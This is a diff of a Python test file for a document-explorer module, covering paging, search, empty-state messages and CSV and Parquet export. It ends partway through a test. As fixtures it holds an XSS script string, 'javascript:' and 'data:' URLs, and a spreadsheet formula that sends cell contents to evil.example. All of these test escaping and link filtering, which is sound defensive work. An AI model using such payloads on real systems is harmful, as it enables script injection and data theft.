@@ -1,4 +1,4 @@
-"""What Explore loads, finds, shows and hands out."""
+"""Explore: loading, search, table and exports."""
 
 import csv
 import io
@@ -32,7 +32,7 @@ HOSTILE = "<script>alert(1)</script> \u202eback \u200d" + "x" * 10_000
 
 
 class Api:
-    """Documents, newest first, in pages of `limit`; the cursor is a place."""
+    """Documents, newest first, in pages of `limit`; a cursor is an index."""
 
     def __init__(self, number):
         self.documents = [
@@ -49,40 +49,44 @@ class Api:
         return {"documents": self.documents[at:end], "cursor": rest}
 
 
-def test_everything_is_loaded_page_by_page(monkeypatch):
-    """Each once, up to the limit, which is told from the end."""
+def test_documents_are_loaded_page_by_page(monkeypatch):
+    """Each document once, in order, to the end or to the limit."""
     monkeypatch.setattr(explore, "PAGE", 10)
     monkeypatch.setattr(explore, "MAX_DOCUMENTS", 30)
     steps = list(all_of(api := Api(25), first(api, Filters(), NOW)))
     assert [len(step.documents) for step in steps] == [20, 25]
+    assert steps[-1].documents == api.documents
     assert not steps[-1].has_more
     assert not steps[-1].is_cut
     [*_, last] = all_of(api := Api(45), first(api, Filters(), NOW))
-    assert (len(last.documents), last.has_more, last.is_cut) == (30, False, True)
+    assert last.documents == api.documents[:30]
+    assert (last.has_more, last.is_cut) == (False, True)
 
 
-def test_a_page_that_fails(monkeypatch):
-    """Costs nothing of what is loaded."""
+def test_failed_page_keeps_the_loaded_documents(monkeypatch):
+    """`older` raises, and returns the next page when it is called again."""
     monkeypatch.setattr(explore, "PAGE", 10)
     api = Api(25)
     loaded = first(api, Filters(), NOW)
     api.fails_at = 10
     with pytest.raises(ServiceError, match="HTTP 500"):
         older(api, loaded)
-    assert len(loaded.documents) == 10
+    api.fails_at = None
+    assert older(api, loaded).documents == api.documents[:20]
 
 
-def test_search():
-    """In text, author and source, whatever the case; nothing wanted finds all."""
+def test_search_covers_text_author_and_source():
+    """In any case; an empty term matches every document."""
     documents = Api(12).documents
     assert len(matches(documents, " NUMBER 1 ")) == 3
-    assert len(matches(documents, "FORUM")) == 12
+    assert matches(documents, "FORUM") == documents
+    assert matches(documents, "ANN") == documents
     assert matches(documents, "") == documents
     assert matches([{**documents[0], "author": None}], "ann") == []
 
 
-def test_the_message_without_documents():
-    """Different where nothing is loaded, nothing found, and nothing there."""
+def test_empty_message_names_the_reason():
+    """No match of the search, no match of the filters, or no documents at all."""
     api = Api(3)
     loaded = first(api, Filters(), NOW)
     assert empty_message(loaded, 3, "", False) == ""
@@ -92,37 +96,38 @@ def test_the_message_without_documents():
     assert "send documents" in empty_message(empty, 0, "", False)
 
 
-def test_a_hostile_document():
-    """Is shortened in the table, whole where it is open, and exact in both files."""
+def test_hostile_text_is_exact_in_exports():
+    """The table shortens it; the open document, CSV and Parquet have all of it."""
     other = {**scored_to_wire(scored("x")), "engine": "comprehend", "engine_version": "v"}
     document = {**scored_to_wire(scored("d", text=HOSTILE)), "others": [other]}
     assert len(table([document])["text"][0]) < 310
     assert "Neutral" in list(fields(document)["Value"])
+    assert document["text"] == HOSTILE
     assert list(engine_scores(document)["Engine"]) == ["vader", "comprehend"]
     [row] = csv.DictReader(io.StringIO(csv_of([document]).decode(), newline=""))
     assert row["text"] == HOSTILE
     assert (row["scores_neutral"], row["comprehend_sentiment"]) == ("1.0", "NEUTRAL")
-    read = pd.read_parquet(io.BytesIO(parquet_of([document])))
-    assert read["text"][0] == HOSTILE
-    assert str(read["created_at"].dtype).startswith("datetime64")
-    assert read["scores_neutral"][0] == 1.0
+    frame = pd.read_parquet(io.BytesIO(parquet_of([document])))
+    assert frame["text"][0] == HOSTILE
+    assert str(frame["created_at"].dtype).startswith("datetime64")
+    assert frame["scores_neutral"][0] == 1.0
 
 
 @pytest.mark.parametrize(
     "url", [None, "", "javascript:alert(1)", "data:text/html,x", "//example.org", "http://[", "x"]
 )
-def test_addresses_that_are_none(url):
-    """Nothing but the web is linked to."""
+def test_unsafe_addresses_are_not_linked(url):
+    """Only absolute http and https addresses are links."""
     assert web_address(url) is None
 
 
-def test_an_address():
-    """Is kept as it is."""
+def test_web_addresses_are_linked_unchanged():
+    """The address is not rewritten."""
     assert web_address("https://example.org/?q=<b>") == "https://example.org/?q=<b>"
 
 
-def test_a_spreadsheet_runs_nothing():
-    """A text that begins as a formula does gets an apostrophe in CSV; numbers stay numbers."""
+def test_csv_escapes_formulas():
+    """A text that begins like a formula gets an apostrophe; numbers stay numbers."""
     document = {
         **scored_to_wire(scored("d")),
         "text": '=HYPERLINK("http://evil.example/?"&A2)',
